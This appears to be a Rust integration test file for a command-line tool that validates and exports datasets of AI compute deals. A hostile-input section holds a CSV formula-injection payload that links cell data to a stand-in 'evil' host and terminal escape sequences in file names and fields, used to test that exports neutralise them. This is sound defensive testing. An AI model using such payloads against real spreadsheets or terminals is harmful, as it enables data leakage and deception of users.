//! The `gigawatt` binary's non-interactive commands, run as a user would:
//! `check`, `export`, `init`, and `--data` pointing at a missing file.

use std::path::{Path, PathBuf};
use std::process::Command;

mod common;
use common::run;

use common::{BIN, ROOT, arg, fixture, fixture_text, generator, temp_dir, temp_file};
use common::{describe, stderr, stdout};

#[test]
fn check_accepts_the_bundled_file() {
    let out = run(&["check", "data/openai-compute.toml"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let text = stdout(&out);
    assert!(
        text.starts_with("data/openai-compute.toml"),
        "{}",
        describe(&out)
    );
    // Six suppliers and, written out in format 2, OpenAI itself: format 2
    // names every company a party, whatever its role.
    assert!(
        text.contains("ok: 7 parties, 5 commitments"),
        "{}",
        describe(&out)
    );
    assert!(stderr(&out).is_empty(), "{}", describe(&out));
}

#[test]
fn check_counts_parties_in_format_2_and_providers_in_format_1() {
    let out = run(&["check", "tests/fixtures/multi-buyer.toml"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let text = stdout(&out);
    assert!(text.contains("ok: 13 parties, 14 commitments"), "{text}");
    assert!(!text.contains("provider"), "{text}");
    let out = run(&["check", "tests/fixtures/base.toml"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let text = stdout(&out);
    assert!(text.contains(" providers, "), "{text}");
    assert!(!text.contains("part"), "{text}");
}

#[test]
fn check_without_a_file_checks_the_bundled_dataset() {
    let out = run(&["check"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let text = stdout(&out);
    // One line per bundled file, the seed's among them, then the set's totals.
    assert!(
        text.contains("data/openai-compute.toml: ok: 7 parties, 5 commitments"),
        "{text}"
    );
    let files = gigawatt_model::data::BUNDLED_FILES.len();
    assert!(text.contains(&format!("{files} files: ok:")), "{text}");
    assert!(!text.contains("warning"), "{text}");
}

#[test]
fn check_lists_every_problem_with_file_line_column_and_path() {
    let file = fixture("broken.toml");
    let out = run(&["check", arg(&file)]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(stdout(&out).is_empty(), "{}", describe(&out));
    let err = stderr(&out);
    let name = arg(&file);
    let expected = [
        format!("{name}:6:9: dataset.as_of: expected a date like 2025-11-03"),
        format!("{name}:19:12: commitments[0].provider: no provider with id \"nowhere\""),
        format!(
            "{name}:20:9: commitments[0].value: expected money like \"$38bn\", found power \"30 GW\""
        ),
        format!("{name}:21:10: commitments[0].status: expected one of \"signed\""),
    ];
    let mut last = 0;
    for line in &expected {
        let at = err
            .find(line.as_str())
            .unwrap_or_else(|| panic!("missing {line:?} in\n{}", describe(&out)));
        assert!(at >= last, "problems out of order:\n{err}");
        last = at;
    }
    // One `error:` line per problem, and a count at the end.
    assert_eq!(err.matches("error: ").count(), expected.len(), "{err}");
    assert!(err.contains(&format!("{name}: 4 problems")), "{err}");
}

#[test]
fn check_with_data_flag_checks_that_file() {
    let file = fixture("broken.toml");
    let out = run(&["--data", arg(&file), "check"]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(stderr(&out).contains(&format!("{}:21:10:", arg(&file))));
}

#[test]
fn check_never_prints_control_characters_from_the_file() {
    let text = fixture_text("broken.toml").replace(
        "format = 1\n",
        "format = 1\n\"\\u001b]0;pwned\\u0007\" = 1\n",
    );
    let file = temp_file(&text);
    let out = run(&["check", arg(&file)]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    let err = stderr(&out);
    assert!(err.contains("pwned"), "{err}");
    assert!(
        !err.chars().any(|c| c.is_control() && c != '\n'),
        "control character on stderr: {err:?}"
    );
}

/// An export of the seed article's dataset.
fn export(table: &str, format: &str) -> String {
    let out = run(&[
        "export",
        table,
        "--format",
        format,
        "--data",
        "data/openai-compute.toml",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    stdout(&out)
}

#[test]
fn export_derived_csv_keeps_values_hedges_and_coverage() {
    let text = export("derived", "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        [
            "key",
            "label",
            "value",
            "unit",
            "qualifier",
            "covers",
            "formula",
            "value_low",
            "value_high"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = |key: &str| -> &csv::StringRecord {
        rows.iter()
            .find(|r| &r[0] == key)
            .unwrap_or_else(|| panic!("no row {key} in\n{text}"))
    };
    let value = |key: &str| -> f64 {
        row(key)[2]
            .parse()
            .unwrap_or_else(|_| panic!("{key}: value {:?} is not a number", &row(key)[2]))
    };

    let total = row("committed_total");
    assert_eq!(&total[2], "610400000000");
    assert_eq!(&total[3], "USD");
    assert_eq!(&total[4], "exact");
    assert_eq!(&total[5], "4 of 5");

    let per_gw = value("implied_cost_per_gw");
    assert!((per_gw - 4.6667e10).abs() <= 1e8, "{per_gw}");
    assert_eq!(&row("implied_cost_per_gw")[4], "upper");

    assert_eq!(value("weeks_to_target"), 30.0);
    assert_eq!(&row("weeks_to_target")[4], "exact");

    let aws = value("value_per_year:aws-2025");
    assert!((aws - 5.4286e9).abs() <= 1e7, "{aws}");
    assert_eq!(&row("value_per_year:aws-2025")[4], "exact");

    assert_eq!(&row("date_to_target")[2], "2026-06-01");
    assert_eq!(&row("date_to_target")[3], "date");
    // Every derived row says how sure it is, or that it has no figure at
    // all (nothing disclosed: empty, never zero).
    for r in &rows {
        assert!(
            ["exact", "approx", "upper", "lower", "below", "range"].contains(&&r[4])
                || (r[2].is_empty() && r[4].is_empty() && r[5].starts_with("0 of")),
            "{r:?}"
        );
    }
}

/// Format 1's twelve columns, then format 2's, appended so that scripts
/// reading by position keep working.
const COMMITMENT_COLUMNS: [&str; 34] = [
    "id",
    "provider",
    "provider_name",
    "value_usd",
    "value_qualifier",
    "value_text",
    "term_years",
    "announced",
    "status",
    "online_by",
    "source",
    "at",
    "buyer",
    "buyer_name",
    "kind",
    "power_w",
    "power_qualifier",
    "power_text",
    "starts",
    "supersedes",
    "file",
    "value_usd_low",
    "value_usd_high",
    "term_years_low",
    "term_years_high",
    "power_w_low",
    "power_w_high",
    "announced_earliest",
    "announced_latest",
    "online_by_earliest",
    "online_by_latest",
    "starts_earliest",
    "starts_latest",
    "left_out",
];

/// Meta–AMD's value is "up to $60bn" by one source and "more than $100bn"
/// by another: bounded neither way. Its export has no number a reader
/// could take for zero: value and bounds empty, qualifier `unbounded`,
/// and the sources' figures as its text; totals of it alone likewise.
#[test]
fn an_unbounded_value_exports_no_zero() {
    // The row of the bundled set's `table` export whose `field` is `value`.
    let row = |table: &str, field: &str, value: &str| -> serde_json::Value {
        let out = run(&["export", table, "--format", "json"]);
        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
        let rows: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("JSON");
        rows.as_array()
            .and_then(|rows| rows.iter().find(|r| r[field] == value).cloned())
            .unwrap_or_else(|| panic!("no {table} row with {field} {value}"))
    };
    let deal = row("commitments", "id", "meta-amd-2026-02");
    assert!(deal["value_usd"].is_null(), "{deal}");
    assert_eq!(deal["value_qualifier"], "unbounded", "{deal}");
    assert!(
        deal["value_usd_low"].is_null() && deal["value_usd_high"].is_null(),
        "{deal}"
    );
    assert_eq!(
        deal["value_text"], "up to $60 billion or more than $100 billion",
        "{deal}"
    );
    let pair = row("derived", "key", "pair_total:meta:amd");
    assert!(pair["value"].is_null(), "{pair}");
    assert_eq!(pair["qualifier"], "unbounded", "{pair}");
    let amd = row("providers", "id", "amd");
    assert!(
        amd["disclosed_usd"].is_null() && amd["share_pct"].is_null(),
        "{amd}"
    );
    assert_eq!(amd["disclosed_qualifier"], "unbounded", "{amd}");
}

#[test]
fn export_commitments_json_has_five_objects_with_the_documented_columns() {
    let text = export("commitments", "json");
    let json: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
    let rows = json.as_array().expect("a JSON array");
    assert_eq!(rows.len(), 5);
    for row in rows {
        let object = row.as_object().expect("an object per commitment");
        let mut keys: Vec<&str> = object.keys().map(String::as_str).collect();
        let mut expected = COMMITMENT_COLUMNS.to_vec();
        keys.sort_unstable();
        expected.sort_unstable();
        assert_eq!(keys, expected);
    }
    let google = rows
        .iter()
        .find(|r| r["id"] == "google-cloud")
        .expect("google-cloud row");
    assert!(
        google["value_usd"].is_null(),
        "undisclosed is null, never 0"
    );
    assert!(google["value_qualifier"].is_null());
    assert_eq!(google["status"], "ongoing");
    let aws = rows.iter().find(|r| r["id"] == "aws-2025").unwrap();
    assert_eq!(aws["value_usd"].as_f64(), Some(38e9));
    assert_eq!(aws["value_qualifier"], "exact");
    assert_eq!(aws["term_years"].as_f64(), Some(7.0));
    assert_eq!(aws["provider_name"], "Amazon Web Services");
}

#[test]
fn export_commitments_markdown_has_a_header_and_five_rows() {
    let text = export("commitments", "markdown");
    let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(lines.len(), 2 + 5, "{text}");
    assert_eq!(lines[0], format!("| {} |", COMMITMENT_COLUMNS.join(" | ")));
    assert!(
        lines[1].split('|').filter(|c| !c.is_empty()).all(|c| c
            .trim()
            .chars()
            .all(|ch| ch == '-' || ch == ':')
            && c.contains("---")),
        "{}",
        lines[1]
    );
    assert_eq!(lines[1].matches('|').count(), COMMITMENT_COLUMNS.len() + 1);
    for row in &lines[2..] {
        assert!(row.starts_with("| ") && row.ends_with(" |"), "{row}");
        // Cells hold no unescaped pipes: each row has as many as the header.
        let unescaped = row.matches('|').count() - row.matches("\\|").count();
        assert_eq!(unescaped, COMMITMENT_COLUMNS.len() + 1, "{row}");
    }
    assert!(
        lines[2..]
            .iter()
            .any(|r| r.starts_with("| aws-2025 | aws |"))
    );
}

#[test]
fn export_reads_the_data_flag() {
    let dir = temp_dir();
    let file = dir.path().join("export-data.toml");
    let created = run(&["init", arg(&file), "--subject", "Example Corp"]);
    assert_eq!(created.status.code(), Some(0), "{}", describe(&created));
    let out = run(&[
        "--data",
        arg(&file),
        "export",
        "commitments",
        "--format",
        "json",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let rows = json.as_array().unwrap();
    assert_eq!(rows.len(), 1, "the template has one commitment");
    assert_eq!(rows[0]["id"], "example-deal");
}

#[test]
fn init_writes_a_file_that_check_accepts_and_does_not_clobber() {
    let dir = temp_dir();
    let file = dir.path().join("init.toml");
    let out = run(&["init", arg(&file)]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let written = std::fs::read_to_string(&file).expect("init wrote the file");
    assert!(written.contains("format = 2"));

    let checked = run(&["check", arg(&file)]);
    assert_eq!(checked.status.code(), Some(0), "{}", describe(&checked));
    assert!(stdout(&checked).starts_with(arg(&file)));

    // Without --force an existing file is left alone, whatever it holds.
    let mine = "# my own notes, not a template\n";
    std::fs::write(&file, mine).unwrap();
    let again = run(&["init", arg(&file)]);
    assert_eq!(again.status.code(), Some(1), "{}", describe(&again));
    assert!(stderr(&again).contains("--force"), "{}", describe(&again));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), mine);

    let forced = run(&["init", arg(&file), "--force"]);
    assert_eq!(forced.status.code(), Some(0), "{}", describe(&forced));
    assert_ne!(std::fs::read_to_string(&file).unwrap(), mine);
    let checked = run(&["check", arg(&file)]);
    assert_eq!(checked.status.code(), Some(0), "{}", describe(&checked));
}

#[test]
fn init_quotes_an_awkward_subject() {
    let dir = temp_dir();
    let file = dir.path().join("init-subject.toml");
    let subject = r#"Quote "Co" \ Backslash"#;
    let out = run(&["init", arg(&file), "--subject", subject]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let checked = run(&["check", arg(&file)]);
    assert_eq!(checked.status.code(), Some(0), "{}", describe(&checked));
    let dataset = gigawatt_model::data::load_file(&file).unwrap();
    assert_eq!(dataset.subject, subject);
}

#[test]
fn init_writes_format_1_on_request() {
    let dir = temp_dir();
    let file = dir.path().join("init-v1.toml");
    let out = run(&["init", arg(&file), "--format", "1", "--subject", "Acme AI"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let written = std::fs::read_to_string(&file).expect("init wrote the file");
    assert!(written.contains("format = 1"), "{written}");
    let checked = run(&["check", arg(&file)]);
    assert_eq!(checked.status.code(), Some(0), "{}", describe(&checked));
    let dataset = gigawatt_model::data::load_file(&file).unwrap();
    assert_eq!(dataset.subject, "Acme AI");
    let bad = run(&["init", arg(&dir.path().join("v3.toml")), "--format", "3"]);
    assert_eq!(bad.status.code(), Some(2), "{}", describe(&bad));
}

#[test]
fn neither_starter_file_points_users_outside_the_repository() {
    for text in [
        gigawatt_model::template::new_file("Acme AI"),
        gigawatt_model::template::new_file_v1("Acme AI"),
    ] {
        assert!(!text.contains("../shared"), "{text}");
        assert!(text.contains("data/README.md"), "{text}");
    }
}

#[test]
fn a_missing_data_file_is_named_in_the_error() {
    let dir = temp_dir();
    let file = dir.path().join("missing.toml");
    let out = run(&["--data", arg(&file), "check"]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(stdout(&out).is_empty(), "{}", describe(&out));
    let err = stderr(&out);
    assert!(err.contains(arg(&file)), "{}", describe(&out));
    assert!(err.contains("cannot read"), "{}", describe(&out));

    assert!(!Path::new(ROOT).join("missing.toml").exists());
    let relative = run(&["--data", "missing.toml", "check"]);
    assert_eq!(relative.status.code(), Some(1), "{}", describe(&relative));
    assert!(
        stderr(&relative).contains("missing.toml"),
        "{}",
        describe(&relative)
    );
}

// ---------------------------------------------------------------------------
// Hostile input and output: formulas, pipes, full disks, links; help, completions, man page.

/// `tests/fixtures/probe.toml`: valid, with formulas, `\r` and tabs in its
/// strings.
fn probe_file() -> PathBuf {
    let file = fixture("probe.toml");
    let out = run(&["check", arg(&file)]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    file
}

fn no_controls(s: &str) -> bool {
    !s.chars().any(|c| c.is_control() && c != '\n')
}

// 9.12: init and symlinks.

#[cfg(unix)]
#[test]
fn init_force_does_not_overwrite_a_symlinks_target() {
    let dir = temp_dir();
    let target = dir.path().join("target.toml");
    let link = dir.path().join("link.toml");
    std::fs::write(&target, "mine\n").unwrap();
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let out = run(&["init", "--force", link.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", describe(&out));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "mine\n");
    assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
}

#[cfg(unix)]
#[test]
fn init_does_not_follow_a_dangling_symlink() {
    let dir = temp_dir();
    let target = dir.path().join("nowhere.toml");
    let link = dir.path().join("link.toml");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    for args in [vec!["init"], vec!["init", "--force"]] {
        let mut args = args;
        args.push(link.to_str().unwrap());
        let out = run(&args);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", describe(&out));
        assert!(!target.exists(), "{args:?} created the link's target");
        assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
    }
}

#[test]
fn init_refuses_a_folder_and_leaves_no_temporary_files() {
    let dir = temp_dir();
    let out = run(&["init", "--force", arg(dir.path())]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(dir.path().is_dir());
    // A successful init leaves exactly the file it names.
    let file = dir.path().join("new.toml");
    let out = run(&["init", file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let out = run(&["init", "--force", file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let names: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["new.toml"]);
}

// 9.14: CSV formula injection.

#[test]
fn csv_cells_that_look_like_formulas_are_neutralised_unless_raw() {
    let file = probe_file();
    let providers = run(&["export", "providers", "--data", arg(&file)]);
    assert_eq!(providers.status.code(), Some(0), "{}", describe(&providers));
    let text = stdout(&providers);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")");
    assert_eq!(&row[2], "'@SUM(A1)");
    assert_eq!(&row[4], "'-2+3; +1");
    // Numeric columns stay numbers.
    assert_eq!(&row[6], "1000000000");

    let notes = run(&["export", "notes", "--data", arg(&file)]);
    let text = stdout(&notes);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[10], "'\tfirst\rsecond");
    assert_eq!(&row[4], "-3", "a negative number is not a formula");

    // JSON and Markdown are not spreadsheets: left as they are.
    let json = run(&[
        "export",
        "providers",
        "--data",
        arg(&file),
        "--format",
        "json",
    ]);
    let json: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
    assert_eq!(json[0]["parent"], "@SUM(A1)");

    let raw = run(&["export", "providers", "--data", arg(&file), "--raw"]);
    assert_eq!(raw.status.code(), Some(0), "{}", describe(&raw));
    let text = stdout(&raw);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], "=HYPERLINK(\"http://evil/?\"&A1,\"click\")");
    assert_eq!(&row[2], "@SUM(A1)");
}

// 9.15: broken pipes and full disks.

/// A valid file with `n` commitments: its export is far larger than a pipe's buffer.
fn big_file(n: usize) -> tempfile::TempPath {
    temp_file(&generator::generate(n, 1))
}

#[test]
fn export_into_a_closed_pipe_ends_quietly_with_status_0() {
    use std::io::{BufRead, BufReader};
    let file = big_file(5000);
    for format in ["csv", "json", "markdown"] {
        let mut child = Command::new(BIN)
            .args([
                "export",
                "commitments",
                "--data",
                arg(&file),
                "--format",
                format,
            ])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // `| head -1`: read one line, then close the pipe.
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .unwrap();
        assert!(!first.is_empty(), "{format}");
        let out = child.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{format}: {}", describe(&out));
        assert!(stderr(&out).is_empty(), "{format}: {}", describe(&out));
    }
}

/// `export` writes rows as it makes them; what it writes is what the whole
/// table, made first and then written, gives.
#[test]
fn a_large_export_streams_the_same_bytes_as_the_whole_table() {
    use gigawatt_model::export::{self, Format, TableName};
    let text = generator::generate(20_000, 3);
    let file = temp_file(&text);
    let dataset = gigawatt_model::data::load_str(&text, arg(&file)).expect("generated files load");
    for (table, name, format, flag) in [
        (TableName::Commitments, "commitments", Format::Csv, "csv"),
        (TableName::Commitments, "commitments", Format::Json, "json"),
        (
            TableName::Commitments,
            "commitments",
            Format::Markdown,
            "markdown",
        ),
        (TableName::Derived, "derived", Format::Csv, "csv"),
        (TableName::Parties, "parties", Format::Json, "json"),
    ] {
        let out = run(&["export", name, "--format", flag, "--data", arg(&file)]);
        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
        let mut whole = Vec::new();
        export::write(&export::table(&dataset, table, None), format, &mut whole)
            .expect("written to memory");
        assert!(
            whole.len() > 100_000,
            "{name} {flag}: {} bytes",
            whole.len()
        );
        assert!(
            out.stdout == whole,
            "{name} {flag}: the streamed export differs"
        );
    }
}

/// `export commitments` of one valid file reads its deals twice instead of
/// holding them (`DealFile`); it writes what the loaded dataset's table
/// gives, byte for byte, in every format, with formulas neutralised or
/// not, for files of either format with superseded, cancelled and optional
/// deals, and deals whose buyer is left out.
#[test]
fn a_deal_file_exports_the_bytes_of_the_loaded_table() {
    use gigawatt_model::export::{self, Format, TableName, WriteOptions};
    let generated = [
        generator::generate(3_000, 5),
        generator::generate_v2(3_000, 6),
        generator::generate_ledger(3_000, 7, 4),
    ];
    let fixtures = ["ui.toml", "base.toml", "probe.toml", "multi-buyer.toml"].map(fixture_text);
    for text in generated.iter().chain(&fixtures) {
        let file = temp_file(text);
        let deals = gigawatt_model::data::read_deal_file(&file).expect("a valid file");
        let dataset = gigawatt_model::data::load_file(&file).expect("a valid file");
        assert_eq!(deals.len(), dataset.commitments.len());
        assert!(
            deals.dataset().commitments.is_empty(),
            "the deals are not held"
        );
        for format in [Format::Csv, Format::Json, Format::Markdown] {
            for raw in [false, true] {
                let options = WriteOptions { raw };
                let mut loaded = Vec::new();
                let mut streamed = Vec::new();
                let table = TableName::Commitments;
                export::stream(&dataset, table, None, format, options, &mut loaded).unwrap();
                export::stream_deal_file(&deals, format, options, &mut streamed).unwrap();
                assert!(
                    streamed == loaded,
                    "{} {format:?} raw {raw}: the deal file's export differs",
                    &text[..80]
                );
            }
        }
    }
}

/// A file that is not plainly valid is no deal file (`export` loads it and
/// reports its problems), and one changed between the two reads is an
/// error, not a table of both.
#[test]
fn a_deal_file_is_valid_and_unchanged_or_an_error() {
    use gigawatt_model::export::{self, ExportError, Format, WriteOptions};
    let broken = temp_file(&fixture_text("broken.toml"));
    assert!(gigawatt_model::data::read_deal_file(&broken).is_none());
    let out = run(&["export", "commitments", "--data", arg(&broken)]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(stderr(&out).contains("dataset.as_of"), "{}", describe(&out));

    let file = temp_file(&generator::generate(200, 1));
    let deals = gigawatt_model::data::read_deal_file(&file).expect("a valid file");
    std::fs::write(&file, generator::generate(201, 1)).unwrap();
    let mut out = Vec::new();
    match export::stream_deal_file(&deals, Format::Csv, WriteOptions::default(), &mut out) {
        Err(e @ ExportError::Changed(_)) => {
            assert!(
                e.to_string().contains("changed while it was exported"),
                "{e}"
            );
        }
        other => panic!("expected a changed file, got {other:?}"),
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_full_stdout_is_an_error_never_a_panic() {
    let full = || {
        std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .expect("/dev/full")
    };
    let dir = temp_dir();
    let new = dir.path().join("new.toml");
    let cases: [Vec<&str>; 4] = [
        vec!["check", "data/openai-compute.toml"],
        vec!["export", "commitments"],
        vec!["export", "derived", "--format", "json"],
        vec!["init", new.to_str().unwrap()],
    ];
    for args in cases {
        let out = Command::new(BIN)
            .args(&args)
            .current_dir(ROOT)
            .stdin(std::process::Stdio::null())
            .stdout(full())
            .output()
            .unwrap();
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(err.contains("No space left on device"), "{args:?}: {err}");
    }
}

// 9.16: user-controlled names are escaped.

#[test]
fn file_names_with_control_characters_are_escaped_in_messages() {
    let dir = temp_dir();
    let file = dir.path().join("x\u{1b}]0;PWN\u{7}.toml");
    let arg = file.to_str().unwrap();
    for args in [
        vec!["init", arg],
        vec!["check", arg],
        vec!["init", arg],
        vec!["export", "notes", "--data", arg],
    ] {
        let out = run(&args);
        assert!(
            no_controls(&stdout(&out)) && no_controls(&stderr(&out)),
            "{args:?}: {:?}",
            describe(&out)
        );
        assert!(
            format!("{}{}", stdout(&out), stderr(&out)).contains("PWN") || args[0] == "export",
            "{args:?}: {}",
            describe(&out)
        );
    }
    let missing = dir.path().join("gone\u{1b}[2J.toml");
    let out = run(&["check", missing.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
}

// 9.17: small ones.

#[test]
fn a_carriage_return_in_prose_does_not_break_markdown_rows() {
    let file = probe_file();
    for table in ["providers", "notes"] {
        let out = run(&[
            "export",
            table,
            "--data",
            arg(&file),
            "--format",
            "markdown",
        ]);
        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
        let text = stdout(&out);
        assert!(!text.contains('\r'), "{text:?}");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 3, "{text}");
    }
    let notes = run(&[
        "export",
        "notes",
        "--data",
        arg(&file),
        "--format",
        "markdown",
    ]);
    assert!(
        stdout(&notes).contains("first second"),
        "{}",
        stdout(&notes)
    );
}

#[test]
fn a_derived_date_past_9999_is_written_without_a_sign() {
    let text = fixture_text("probe.toml")
        .replace("as_of = 2025-11-03", "as_of = 9999-12-31")
        .replace(
            "[[notes]]",
            "[capacity]\ntarget = \"30 GW\"\nbuild_rate = \"1 GW per week\"\n\n[[notes]]",
        );
    let file = temp_file(&text);
    for format in ["csv", "json", "markdown"] {
        let out = run(&[
            "export",
            "derived",
            "--data",
            arg(&file),
            "--format",
            format,
        ]);
        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
        let text = stdout(&out);
        assert!(text.contains("10000-07-28"), "{text}");
        assert!(!text.contains("+10000"), "{text}");
    }
}

#[test]
fn init_refuses_a_subject_that_would_fail_check() {
    for subject in ["Evil\u{1b}]0;PWN\u{7}Co", "Two\nLines", "Del\u{7f}Co"] {
        let dir = temp_dir();
        let file = dir.path().join("init-evil-subject.toml");
        let out = run(&["init", arg(&file), "--subject", subject]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{subject:?}: {}",
            describe(&out)
        );
        assert!(stderr(&out).contains("--subject"), "{}", describe(&out));
        assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
        assert!(!file.exists(), "{subject:?}");
    }
}

// 13.8: help, version and exit codes.

#[test]
fn init_help_does_not_offer_data() {
    let out = run(&["init", "--help"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert!(!stdout(&out).contains("--data"), "{}", stdout(&out));
    // Given anyway, it is a usage error, not silently ignored.
    let dir = temp_dir();
    let file = dir.path().join("init-data.toml");
    let out = run(&["--data", "data/openai-compute.toml", "init", arg(&file)]);
    assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
    assert!(!file.exists());
}

#[test]
fn export_help_lists_tables_and_formats() {
    let out = run(&["export", "--help"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let help = stdout(&out);
    for word in [
        "providers",
        "commitments",
        "milestones",
        "notes",
        "derived",
        "csv",
        "json",
        "markdown",
        "--raw",
        "--data",
    ] {
        assert!(help.contains(word), "{word} missing from\n{help}");
    }
    let out = run(&["export", "nosuch"]);
    assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
    assert!(stderr(&out).contains("commitments"), "{}", describe(&out));
}

#[test]
fn version_and_usage_errors() {
    let out = run(&["--version"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert_eq!(
        stdout(&out).trim(),
        format!("gigawatt {}", env!("CARGO_PKG_VERSION"))
    );
    for args in [
        vec!["--nosuch"],
        vec!["check", "a", "--data", "b"],
        vec!["init"],
        vec!["export", "commitments", "--format", "xml"],
        vec!["export", "x\u{1b}]0;PWN\u{7}"],
    ] {
        let out = run(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", describe(&out));
        assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
    }
    // The data flag works before and after the command.
    let before = run(&["--data", "data/openai-compute.toml", "export", "notes"]);
    let after = run(&["export", "notes", "--data", "data/openai-compute.toml"]);
    assert_eq!(before.status.code(), Some(0), "{}", describe(&before));
    assert_eq!(stdout(&before), stdout(&after));
    let check = run(&["check", "--data", "data/openai-compute.toml"]);
    assert_eq!(check.status.code(), Some(0), "{}", describe(&check));
}

// 13.11: completions and the man page.

#[test]
fn bash_accepts_the_completion_script() {
    let out = run(&["completions", "bash"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let dir = temp_dir();
    let script = dir.path().join("completion.toml");
    std::fs::write(&script, &out.stdout).unwrap();
    let bash = Command::new("bash")
        .arg("-n")
        .arg(&script)
        .output()
        .expect("bash");
    assert!(bash.status.success(), "{}", describe(&bash));
    assert!(stdout(&out).contains("commitments"));
    for shell in ["zsh", "fish", "powershell"] {
        let out = run(&["completions", shell]);
        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
        assert!(stdout(&out).contains("gigawatt"), "{shell}");
    }
}

#[test]
fn the_man_page_renders() {
    let out = run(&["man"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let roff = stdout(&out);
    assert!(roff.contains(".TH gigawatt 1"), "{roff}");
    for section in [
        ".SH NAME",
        ".SH SYNOPSIS",
        ".SH COMMANDS",
        ".SH TABS",
        ".SH KEYS",
        ".SH VERSION",
    ] {
        assert!(roff.contains(section), "{section} missing from\n{roff}");
    }
    assert!(roff.contains("export"), "{roff}");
    // One page: it points to no page per command (issue 23, item 14),
    // and names every tab and every key's help.
    assert!(!roff.contains("(1)"), "{roff}");
    for tab in gigawatt::tabs::descriptor::Tab::ALL {
        assert!(
            roff.contains(&tab.title().replace('-', "\\-")),
            "{}",
            tab.title()
        );
    }
    for binding in gigawatt::app::keymap::BINDINGS {
        assert!(
            roff.contains(&binding.help.replace('-', "\\-")),
            "{}",
            binding.help
        );
    }
    // With man installed, it renders as a page.
    let Ok(mut man) = Command::new("man")
        .args(["-l", "-"])
        .env("MANPAGER", "cat")
        .env("PAGER", "cat")
        .env("MANWIDTH", "80")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
    else {
        return;
    };
    use std::io::Write as _;
    man.stdin.take().unwrap().write_all(&out.stdout).unwrap();
    let page = man.wait_with_output().unwrap();
    assert!(page.status.success(), "{}", describe(&page));
    let text = stdout(&page);
    assert!(text.contains("NAME"), "{text}");
    assert!(text.contains("gigawatt"), "{text}");
}

#[test]
fn config_checks_the_file_given_after_the_command_too() {
    let dir = temp_dir();
